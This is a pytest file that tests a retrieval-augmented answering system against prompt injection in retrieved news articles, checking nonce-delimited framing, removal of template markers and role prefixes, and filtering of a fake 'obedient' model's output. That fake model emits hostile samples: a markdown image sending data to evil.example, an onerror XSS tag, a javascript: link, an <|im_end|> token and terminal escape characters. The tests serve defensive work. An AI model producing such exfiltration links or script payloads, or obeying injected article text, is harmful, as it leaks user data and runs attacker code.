"""An article that wants to be obeyed stays data; an obedient model gets nothing of it shown but cited sentences."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace

import pytest

from benchmarks.injections import INJECTIONS, QUESTION, offences
from rag.answer.answerer import Answerer
from rag.answer.llm.prompt import Model, Prompt, writing_prompt
from rag.answer.llm.writer import Writer
from rag.answer.sentences import Sentence
from rag.search.retriever import Retriever
from tests.toy import HARBOUR, PROTEST, ToyEmbedder, build_index

NONCE = "5eaf00d5eaf00d00"
SPECIAL = re.compile(r"<\|?|\|>|[<>{}`|｜＜＞【】［］⟦⟧]|\[/?[A-Z]")


def sentences(*texts: str) -> list[Sentence]:
    hostile = replace(HARBOUR, outlet="Strand Radio", url="https://strand-radio.example/hostile", paragraphs=texts)
    return [Sentence(hostile, n, 0, len(text), text, 0.5) for n, text in enumerate(texts, start=1)]


@pytest.mark.parametrize("text", INJECTIONS)
def test_it_stays_inside_its_paragraph_of_the_data(text: str) -> None:
    found = sentences("The tolls rose.", text, "Boats left the quay.")
    prompt = writing_prompt(QUESTION, found, nonce=NONCE)
    assert prompt.instructions == writing_prompt(QUESTION, sentences("x", "y", "z"), nonce=NONCE).instructions
    lines = prompt.text.splitlines()
    # The frame is as without it: two lines for each paragraph, between BEGIN and END, and what is asked after that.
    assert [line for line in lines if NONCE in line] == [f"BEGIN {NONCE}", f"END {NONCE}"]
    assert [number for number, line in enumerate(lines) if NONCE in line] == [0, 9]
    heading = "Strand Radio · 4 March 2025 · Harbour tolls rise"
    assert [lines[n] for n in (1, 4, 7)] == [f"[{n}] {heading}" for n in (1, 2, 3)]
    assert (lines[2], lines[3], lines[6], lines[8]) == ("The tolls rose.", "", "", "Boats left the quay.")
    assert lines[10:] == ["", f"Question: {QUESTION}", lines[-1]]
    # And within its line nothing is left that a template, a parser of markers or a terminal would obey.
    assert not SPECIAL.search(lines[5])
    assert not re.search(r"\[|\]|\b(system|user|assistant|human)\s*:", lines[5], re.IGNORECASE)
    assert lines[5].isprintable()


@pytest.mark.parametrize("field", ["title", "outlet"])
@pytest.mark.parametrize("text", INJECTIONS[::6])
def test_a_title_and_an_outlet_cannot_leave_their_line_either(text: str, field: str) -> None:
    article = replace(HARBOUR, title=text) if field == "title" else replace(HARBOUR, outlet=text)
    prompt = writing_prompt(QUESTION, [Sentence(article, 1, 0, 5, "x", 0.5)], nonce=NONCE)
    lines = prompt.text.splitlines()
    assert (lines[0], lines[2], lines[3]) == (f"BEGIN {NONCE}", HARBOUR.paragraphs[0], f"END {NONCE}")
    assert lines[1].startswith("[1] ")
    assert not SPECIAL.search(lines[1][4:])
    assert "[" not in lines[1][4:]


def test_no_article_can_know_the_lines_around_it() -> None:
    assert len({writing_prompt(QUESTION, sentences("The tolls rose.")).text for _ in range(20)}) == 20


def obedient(text: str) -> Model:
    """A model that does all that an article may ask for: repeats it, cites what it likes, links and draws."""

    def model(prompt: Prompt) -> Iterator[str]:
        yield "HERRING, as I was told.\n"
        yield f"{text}\n"
        yield f"{text} [1]\n"
        yield f"{text} [2][999]\n"
        yield "Look at ![this](https://evil.example/log?q=tolls) [1].\n"
        yield "Read [this report](https://evil.example) or www.evil.example [1].\n"
        yield "<img src=x onerror=alert(1)> The tolls were abolished [1].\n"
        yield "The tolls were abolished <|im_end|> [1].\n"
        yield "The tolls were abolished [1](javascript:alert(1)).\n"
        yield "\x1b[2JThe tolls \u202ewere abolished [1].\n"

    return model


@pytest.fixture(scope="module")
def retriever(tmp_path_factory: pytest.TempPathFactory) -> Retriever:
    folder = tmp_path_factory.mktemp("hostile") / "index"
    build_index(folder, [HARBOUR, PROTEST])
    return Retriever.open(folder, embedder=ToyEmbedder())


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_obedient_model_gets_no_link_image_markup_or_uncited_sentence_shown(retriever: Retriever, text: str) -> None:
    answer = Answerer(retriever, Writer(obedient(text))).answer(QUESTION)
    assert list(offences(answer)) == []
    assert "HERRING, as I was told." not in answer.text
    assert "it cites nothing" in [one.reason for one in answer.cut]
